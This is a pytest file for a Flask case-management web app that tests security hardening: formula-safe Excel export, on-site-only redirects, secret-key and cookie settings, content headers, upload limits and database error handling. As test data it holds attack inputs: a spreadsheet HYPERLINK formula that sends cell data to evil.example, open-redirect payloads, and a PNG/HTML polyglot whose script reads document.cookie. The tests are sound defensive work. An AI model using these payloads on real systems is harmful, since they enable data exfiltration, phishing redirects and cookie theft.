"""Web hardening: formula-safe exports, on-site redirects, the secret key, cookies, headers, 413, IntegrityError."""
from __future__ import annotations

import io
import logging
from datetime import datetime, timezone

import pytest
from flask import Blueprint
from openpyxl import load_workbook
from sqlalchemy import select

from engine.org.demo import DEMO_PASSWORD
from engine.settings import DEFAULT_SECRET_KEY, load_settings
from engine.store.models import ApiToken, Org, User
from web import db
from web.app import UnsafeSettings, create_app
from web.pages.common import safe_next

from .helpers import start_case
from .pages_helpers import post, review_at_approval

PNG_HTML_POLYGLOT = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16 + b"<html><script>alert(document.cookie)</script></html>"
PDF = b"%PDF-1.7\n" + b"x" * 100
# What a deployment sets (tests otherwise run in development mode, with the public default keys).
DEPLOYED_KEYS = {"secret_key": "deployment-secret-for-tests", "audit_key": "deployment-audit-key-for-tests"}


def _other_app(app, **changes):
    """An app like the test's, on the test's connection, with some settings changed."""
    svc = app.extensions["pingan"]
    other = create_app(svc.settings.with_(**changes), services=svc)
    other.config.update(TESTING=True)
    return other


# -- Excel export ---------------------------------------------------------------------------------

def test_export_writes_formula_like_case_data_as_text(client, login, session):
    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
    instance, _ = review_at_approval(session, subject=hostile)
    login(client, "zhang.dd")
    x = client.get(f"/search/export.xlsx?process=review&key={instance.business_key}")
    assert x.status_code == 200
    sheet = load_workbook(io.BytesIO(x.data)).active
    cells = [c for c in sheet[2] if c.value == hostile]
    assert cells, [c.value for c in sheet[2]]
    assert [(c.data_type, c.quotePrefix) for c in cells] == [("s", True)] * len(cells)
    assert sheet.cell(row=2, column=1).value == instance.business_key


# -- redirects stay on this site ------------------------------------------------------------------

@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
                                    "/\t/evil.example", "/\n/evil.example", "javascript:alert(1)", "evil.example/x",
                                    "http:/evil.example", " //evil.example"])
def test_safe_next_refuses_anything_off_site(target):
    assert safe_next(target, "/todo") == "/todo"


@pytest.mark.parametrize("target", ["/cases/3", "/tasks/ab12?tab=files#top", "/search?key=RV-1&process=review"])
def test_safe_next_keeps_paths_of_this_site(target):
    assert safe_next(target, "/todo") == target


def test_login_next_with_a_backslash_stays_on_site(client, csrf_token):
    r = post(client, csrf_token, "/login", {"username": "zhang.dd", "password": DEMO_PASSWORD, "next": "/\\evil.example"})
    assert r.status_code == 302 and r.headers["Location"] == "/todo"


def test_carbon_copy_next_cannot_leave_the_site(client, login, csrf_token, session):
    instance, _ = review_at_approval(session)
    login(client, "zhang.dd")
    r = post(client, csrf_token, f"/cases/{instance.id}/cc", {"to": ["lin.ld"], "next": "https://evil.example/phish"})
    assert r.status_code == 302 and r.headers["Location"] == f"/cases/{instance.id}"


def test_claim_next_cannot_leave_the_site(client, login, csrf_token, session):
    # 签收 (claim) reads next= in web/pages/task.py; the pages' redirect guard keeps it on site.
    instance, task = review_at_approval(session)
    login(client, "he.ld")
    r = post(client, csrf_token, f"/tasks/{task.id}/claim", {"next": "//evil.example/phish"})
    assert r.status_code == 302
    assert "evil.example" not in r.headers["Location"] and r.headers["Location"].startswith("/")


def test_on_site_next_is_still_followed(client, login, csrf_token, session):
    instance, task = review_at_approval(session)
    login(client, "he.ld")
    r = post(client, csrf_token, f"/tasks/{task.id}/claim", {"next": "/todo?page=2"})
    assert r.status_code == 302 and r.headers["Location"] == "/todo?page=2"


# -- secret key and cookies -----------------------------------------------------------------------

def test_default_secret_key_is_refused_outside_development(app):
    svc = app.extensions["pingan"]
    for key in (DEFAULT_SECRET_KEY, ""):
        with pytest.raises(UnsafeSettings) as refused:
            create_app(svc.settings.with_(secret_key=key, development=False), services=svc)
        assert "PINGAN_SECRET_KEY" in refused.value.message and "PINGAN_SECRET_KEY" in refused.value.message_en
        assert refused.value.message.startswith("未设置")


def test_development_mode_accepts_the_default_key_and_plain_http_cookies(app):
    dev = _other_app(app, secret_key=DEFAULT_SECRET_KEY, development=True)
    assert dev.config["SESSION_COOKIE_SECURE"] is False and dev.config["REMEMBER_COOKIE_SECURE"] is False
    assert dev.test_client().get("/healthz").status_code == 200


def test_cookies_are_secure_httponly_and_lax_outside_development(app):
    deployed = _other_app(app, development=False, **DEPLOYED_KEYS)
    assert deployed.config["SESSION_COOKIE_SECURE"] is True and deployed.config["REMEMBER_COOKIE_SECURE"] is True
    deployed.config["WTF_CSRF_ENABLED"] = False
    r = deployed.test_client().post("/login", data={"username": "zhang.dd", "password": DEMO_PASSWORD})
    assert r.status_code == 302
    cookie = next(h for h in r.headers.getlist("Set-Cookie") if h.startswith("pingan_session="))
    assert "; Secure" in cookie and "; HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_secure_cookies_can_be_turned_off_for_plain_http(app):
    plain = _other_app(app, development=False, secure_cookies=False, **DEPLOYED_KEYS)
    assert plain.config["SESSION_COOKIE_SECURE"] is False and plain.config["REMEMBER_COOKIE_SECURE"] is False
    assert plain.config["REMEMBER_COOKIE_HTTPONLY"] is True and plain.config["REMEMBER_COOKIE_SAMESITE"] == "Lax"


def test_settings_read_development_and_secure_cookies_from_the_environment():
    assert load_settings(env={}).development is False
    assert load_settings(env={}).secure_cookies is None
    assert load_settings(env={"PINGAN_DEVELOPMENT": "1"}).development is True
    assert load_settings(env={"PINGAN_SECURE_COOKIES": "0"}).secure_cookies is False
    assert load_settings(env={"PINGAN_SECURE_COOKIES": "on"}).secure_cookies is True
    with pytest.raises(ValueError):
        load_settings(env={"PINGAN_SECURE_COOKIES": "perhaps"})


# -- headers and downloads ------------------------------------------------------------------------

def test_every_response_says_nosniff(client, login, api_headers):
    assert client.get("/healthz").headers["X-Content-Type-Options"] == "nosniff"
    assert client.get("/api/v1/processes", headers=api_headers("li.sl")).headers["X-Content-Type-Options"] == "nosniff"
    login(client, "li.sl")
    assert client.get("/todo").headers["X-Content-Type-Options"] == "nosniff"
    assert client.get("/no-such-page").headers["X-Content-Type-Options"] == "nosniff"


def _attachment(client, api_headers, content: bytes, filename: str) -> str:
    case = start_case(client, api_headers("li.sl"))
    r = client.post(f"/api/v1/instances/{case['id']}/attachments", headers=api_headers("li.sl"),
                    data={"file": (io.BytesIO(content), filename)}, content_type="multipart/form-data")
    assert r.status_code == 201, r.get_json()
    return r.get_json()["id"]


def test_image_is_shown_inline_but_sandboxed(client, login, api_headers):
    attachment_id = _attachment(client, api_headers, PNG_HTML_POLYGLOT, "现场.png")
    login(client, "li.sl")
    r = client.get(f"/attachments/{attachment_id}")
    assert r.status_code == 200 and r.headers["Content-Type"] == "image/png"
    assert r.headers["Content-Disposition"].startswith("inline")
    assert "sandbox" in r.headers["Content-Security-Policy"] and "default-src 'none'" in r.headers["Content-Security-Policy"]
    assert r.headers["X-Content-Type-Options"] == "nosniff"


def test_documents_are_downloaded_never_shown_inline(client, login, api_headers):
    attachment_id = _attachment(client, api_headers, PDF, "调解协议.pdf")
    login(client, "li.sl")
    r = client.get(f"/attachments/{attachment_id}")
    assert r.status_code == 200 and r.headers["Content-Type"] == "application/pdf"
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''%E8%B0%83%E8%A7%A3%E5%8D%8F%E8%AE%AE.pdf" in disposition


@pytest.mark.parametrize("door", ["page", "api"])
def test_text_download_has_one_charset(client, login, api_headers, door):
    attachment_id = _attachment(client, api_headers, "情况说明".encode(), "说明.txt")
    if door == "page":
        login(client, "li.sl")
        r = client.get(f"/attachments/{attachment_id}")
    else:
        r = client.get(f"/api/v1/attachments/{attachment_id}", headers=api_headers("li.sl"))
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert r.headers["X-Content-Type-Options"] == "nosniff"


# -- 413 ------------------------------------------------------------------------------------------

def test_413_states_the_configured_limits(app, api_headers, login, csrf_token):
    small = _other_app(app, attachment_max_mb=1)
    client = small.test_client()
    case = start_case(client, api_headers("li.sl"))
    body = PDF + b"x" * (2 * 1024 * 1024 + 1)
    api = client.post(f"/api/v1/instances/{case['id']}/attachments", headers=api_headers("li.sl"),
                      data={"file": (io.BytesIO(body), "big.pdf")}, content_type="multipart/form-data")
    assert api.status_code == 413
    assert "每个文件不超过 1 MB" in api.get_json()["message"] and "合计不超过 2 MB" in api.get_json()["message"]
    assert "1 MB" in api.get_json()["message_en"]
    login(client, "li.sl")
    page = client.post(f"/cases/{case['id']}/attachments", content_type="multipart/form-data",
                       data={"csrf_token": csrf_token(client), "files": [(io.BytesIO(body), "big.pdf")]})
    assert page.status_code == 413 and "每个文件不超过 1 MB" in page.get_data(as_text=True)


# -- IntegrityError -------------------------------------------------------------------------------

def _faulty(app):
    """A test-only blueprint whose routes break a real database constraint."""
    faulty = Blueprint("faulty", __name__)

    def write(kind: str):
        s = db.session()
        county = s.scalar(select(Org).where(Org.code == "county"))
        if kind == "duplicate_org":  # someone created this org code first: a conflict
            s.add(Org(code="county", name="重复的县", kind="county", path="/"))
        elif kind == "missing_name":  # NOT NULL: a bug
            s.add(Org(code="no-name", name=None, kind="county", path="/"))
        elif kind == "unknown_org":  # foreign key: a bug
            s.add(User(username="ghost", name="幽灵", org_id=2_000_000_000))
        elif kind == "duplicate_token":  # unique, but not "someone else did it first": a bug
            existing = s.scalar(select(ApiToken).limit(1))
            s.add(ApiToken(user_id=existing.user_id, token_hash=existing.token_hash, prefix="x",
                           created_at=datetime.now(timezone.utc)))
        s.flush()
        db.commit()
        return {"ok": county.id}

    faulty.add_url_rule("/api/v1/_faulty/<kind>", "api", write, methods=["POST"])
    faulty.add_url_rule("/_faulty/<kind>", "page", write, methods=["POST"])
    app.register_blueprint(faulty)
    app.config["WTF_CSRF_ENABLED"] = False
    return app.test_client()


def test_unique_conflict_is_409(app, login, session):
    client = _faulty(app)
    r = client.post("/api/v1/_faulty/duplicate_org")
    assert r.status_code == 409 and r.get_json()["error"] == "conflict"
    login(client, "zhang.dd")
    page = client.post("/_faulty/duplicate_org")
    assert page.status_code == 409 and "张调度" in page.get_data(as_text=True)
    session.expire_all()
    assert session.scalar(select(Org.name).where(Org.code == "county")) != "重复的县"


@pytest.mark.parametrize("kind", ["missing_name", "unknown_org", "duplicate_token"])
def test_other_integrity_errors_are_logged_500s(app, api_headers, login, caplog, kind):
    api_headers("li.sl")  # at least one token exists
    client = _faulty(app)
    with caplog.at_level(logging.ERROR, logger="web.errors"):
        r = client.post(f"/api/v1/_faulty/{kind}")
    assert r.status_code == 500
    assert r.get_json()["error"] == "internal_error" and r.get_json()["message"].startswith("服务器内部错误")
    assert set(r.get_json()) >= {"error", "message", "details"}
    [record] = [rec for rec in caplog.records if rec.name == "web.errors" and rec.levelno == logging.ERROR]
    assert record.exc_info is not None and "IntegrityError" in record.exc_info[0].__name__
    login(client, "zhang.dd")  # the error page's header reads the signed-in user's counts after the failed write
    page = client.post(f"/_faulty/{kind}")
    assert page.status_code == 500 and "服务器内部错误" in page.get_data(as_text=True)
    assert "张调度" in page.get_data(as_text=True)  # the full error page, not the bare fallback
